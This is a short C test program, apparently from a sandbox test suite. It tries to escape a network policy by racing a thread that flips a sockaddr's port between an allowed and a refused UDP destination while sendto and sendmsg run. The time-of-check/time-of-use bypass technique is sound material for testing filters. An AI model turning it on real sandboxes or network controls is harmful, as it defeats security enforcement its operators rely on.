/* Escape attempt: one thread sends datagrams to argv[1]:argv[2] (a UDP
 * destination the policy allows: it gets a relay) with sendto and sendmsg,
 * naming it with a sockaddr another thread keeps flipping to port argv[3]
 * (a destination the policy refuses) and back.  What reaches argv[3] is
 * counted by its server; here, the rounds. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

static struct sockaddr_in dest;
static volatile int stop, started;
static unsigned short allowed, refused;

static void *flipper(void *arg)
{
	(void)arg;
	volatile unsigned short *port = &dest.sin_port;
	started = 1;
	while (!stop) {
		*port = refused;
		*port = allowed;
	}
	return NULL;
}

int main(int argc, char **argv)
{
	int rounds = atoi(argv[4]);
	dest.sin_family = AF_INET;
	inet_pton(AF_INET, argv[1], &dest.sin_addr);
	allowed = htons(atoi(argv[2]));
	refused = htons(atoi(argv[3]));
	dest.sin_port = allowed;
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	sendto(s, "x", 1, 0, (struct sockaddr *)&dest, sizeof dest);        /* its relay, before the race */
	pthread_t t;
	pthread_create(&t, NULL, flipper, NULL);
	while (!started)
		;
	struct iovec iov = { .iov_base = "x", .iov_len = 1 };
	struct msghdr msg = { .msg_name = &dest, .msg_namelen = sizeof dest, .msg_iov = &iov, .msg_iovlen = 1 };
	for (int i = 0; i < rounds; i++) {
		sendto(s, "x", 1, 0, (struct sockaddr *)&dest, sizeof dest);
		sendmsg(s, &msg, 0);
	}
	stop = 1;
	pthread_join(t, NULL);
	printf("rounds %d\n", rounds);
	return 0;
}
